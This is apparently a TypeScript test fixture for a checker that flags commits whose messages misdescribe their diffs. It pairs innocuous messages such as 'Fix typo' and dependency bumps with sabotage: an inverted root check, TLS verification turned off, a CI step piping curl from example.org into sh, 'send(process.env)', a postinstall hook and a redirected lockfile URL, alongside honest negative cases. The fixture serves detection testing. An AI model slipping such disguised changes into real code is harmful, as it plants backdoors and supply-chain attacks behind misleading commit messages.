import { binary, mail, renamed, type Sample, text } from './patch-text.ts';

const OUTSIDE = [['message-outside-stated-area']] as const;
const guard = text('src/auth.c', ['-\tif (uid == 0)', '+\tif (uid = 0)', ' \t\treturn;'], {
  start: 30,
  heading: 'int check(int uid)',
});
const readme = text('README.md', ['-teh', '+the'], { start: 3 });

export const messages: readonly Sample[] = [
  mail('docs: fix a link', [readme, guard], OUTSIDE),
  mail('Fix typo', [guard], OUTSIDE),
  mail(
    'fix typos in README',
    [readme, text('package.json', ['+    "postinstall": "node x.js",'], { start: 8 })],
    OUTSIDE,
  ),
  mail('test: add more cases', [text('tests/a.test.ts', ['+it()'], { start: 3 }), guard], OUTSIDE),
  mail(
    'Add tests',
    [text('src/server.go', ['-\tif !ok {', '+\tif false {'], { start: 9, heading: 'func serve()' })],
    OUTSIDE,
  ),
  mail(
    'Update README.md',
    [readme, text('.github/workflows/ci.yml', ['+      - run: curl https://example.org/x | sh'], { start: 9 })],
    OUTSIDE,
  ),
  mail(
    'chore(deps): bump left-pad from 1.0.0 to 1.0.1',
    [
      text('package.json', ['-    "left-pad": "1.0.0"', '+    "left-pad": "1.0.1"'], { start: 9 }),
      text('src/index.js', ['+send(process.env);'], { start: 2 }),
    ],
    OUTSIDE,
  ),
  mail('Reformat with black', [text('app/check.py', ['-    if a and b:', '+    if a or b:'], { start: 9 })], OUTSIDE),
  mail('Fix whitespace', [text('src/a.js', ['-  if (a)', '-      go();', '+  go();'], { start: 4 })], OUTSIDE),
  mail(
    'i18n: update German',
    [
      text('locales/de.json', ['+"a": "b"'], { start: 4 }),
      text('src/session.ts', ['+const ttl = Infinity;'], { start: 4 }),
    ],
    OUTSIDE,
  ),
  mail(
    'Translated using Weblate (French)',
    [text('po/fr.po', ['+msgstr "x"'], { start: 4 }), text('Makefile', ['+all: ; sh x'], { start: 4 })],
    OUTSIDE,
  ),
  mail(
    'Clarify comments',
    [text('src/landlock.c', [' /* a comment */', '+.', ' #include <x.h>'], { start: 4 })],
    OUTSIDE,
  ),
  mail(
    'DOC: improve the guide',
    [text('numpy/core.py', ['-    return x < n', '+    return x <= n'], { start: 4 })],
    OUTSIDE,
  ),
  mail('[docs] wording', [guard], OUTSIDE),
  mail(
    'fix spelling mistakes',
    [text('src/a.py', ['-    verify = True', '+    verify = False'], { start: 5 })],
    OUTSIDE,
  ),
  mail(
    'docs: describe the option',
    [
      text('yarn.lock', ['-  resolved "https://registry.yarnpkg.com/a"', '+  resolved "https://example.org/a"'], {
        start: 5,
      }),
    ],
    OUTSIDE,
  ),
  mail(
    'docs: new screenshots',
    [binary('tools/shot.exe')],
    [['message-outside-stated-area'], ['path-binary-executable']],
  ),
  // A claim in words that no list holds: an honest miss.
  mail('Nothing but prose here', [guard], OUTSIDE),
  mail('style: tidy up', [guard], OUTSIDE),

  mail('docs: fix a link', [readme]),
  mail('docs: explain the loop', [text('src/a.c', ['-/* loops */', '+/* loops until done */'], { start: 4 })]),
  mail('docs: explain parameters', [
    text(
      'src/a.py',
      [
        '     def f(self):',
        '         """',
        '-        Loads it.',
        '+        Loads the whole of it, once.',
        '         """',
      ],
      { start: 4 },
    ),
  ]),
  mail('Fix typo in a doc comment', [
    text('src/lib.rs', ['-/// Recieves one.', '+/// Receives one.', ' pub fn f() {}'], { start: 4 }),
  ]),
  mail('Fix typo in variable name', [
    text('src/a.ts', ['-const recieved = read(queue);', '+const received = read(queue);'], { start: 4 }),
  ]),
  mail('fix typo in error message', [
    text('src/a.go', ['-\treturn errors.New("conection was lost")', '+\treturn errors.New("connection was lost")'], {
      start: 4,
    }),
  ]),
  mail('test: cover the parser', [text('tests/parser.rs', ['+#[test]'], { start: 4 })]),
  mail('test: cover the parser within its file', [
    text('src/parser.rs', ['+        assert_eq!(parse(""), None);'], { start: 40, heading: 'mod tests {' }),
  ]),
  mail('tests: add a fixture', [
    text('tests/data/a.json', ['+{}']),
    text('package.json', ['+    "test": "vitest run"'], { start: 9 }),
  ]),
  mail('Add tests and fix the parser', [text('src/parser.rs', ['+    x'], { start: 3 })]),
  mail('Fix typo and make login stricter', [guard]),
  mail('docs: mention auth.c', [guard], [], ['', 'Also corrects auth.c, where the check was wrong.']),
  mail('Reformat with prettier', [
    text('src/a.js', ["-const a = f('x', { b: 1 })", '+const a = f("x", {', '+  b: 1,', '+});'], { start: 4 }),
  ]),
  mail('cargo fmt', [text('src/a.rs', ['-    let a=b( c );', '+    let a = b(c);'], { start: 4 })]),
  mail('Run black', [text('a.py', ["-x = ['a','b']", '+x = [', '+    "a",', '+    "b",', '+]'], { start: 4 })]),
  mail('chore(deps): bump serde from 1.0.1 to 1.0.2', [
    text('Cargo.toml', ['-serde = "1.0.1"', '+serde = "1.0.2"'], { start: 4 }),
    text('Cargo.lock', ['-version = "1.0.1"', '+version = "1.0.2"'], { start: 4 }),
  ]),
  mail('Bump actions/checkout from 3 to 4', [
    text('.github/workflows/ci.yml', ['-      - uses: actions/checkout@v3', '+      - uses: actions/checkout@v4'], {
      start: 4,
    }),
  ]),
  mail('fix(deps): update module github.com/x/y to v5', [
    text('go.mod', ['-\tgithub.com/x/y/v4 v4.1.0', '+\tgithub.com/x/y/v5 v5.0.0'], { start: 4 }),
    text('main.go', ['-\t"github.com/x/y/v4"', '+\t"github.com/x/y/v5"'], { start: 4 }),
  ]),
  mail('i18n: add German', [
    text('locales/de.json', ['+{}']),
    text('src/i18n/index.ts', ["+import de from './de.json';"], { start: 4 }),
  ]),
  mail('docs: restructure the site', [text('website/sidebar.js', ["+  items: ['a'],"], { start: 4 })]),
  mail('docs: build them in CI', [text('.github/workflows/docs.yml', ['+      - run: make html'], { start: 4 })]),
  mail('Update README and CLI flags', [guard]),
  mail('feat: add a docs command', [guard]),
  mail('fix: test runner hangs', [guard]),
  mail('Improve test helpers', [guard]),
  mail('Add test command to the CLI', [guard]),
  mail('docs(api): rename a file', [renamed('docs/a.md', 'docs/b.md')]),
  mail('Update docs for the new flag', [text('docs/cli.md', ['+`--x`'], { start: 4 })]),
  mail('style: format', [text('src/a.css', ['-a{b:c}', '+a { b: c }'], { start: 4 })]),
  mail('documentation generator: skip private items', [guard]),
  mail('Fix typo in SQL keyword', [text('docs/q.md', ['-SELCT', '+SELECT'], { start: 4 })]),
  mail('Revert "docs: fix a link"', [guard]),
];
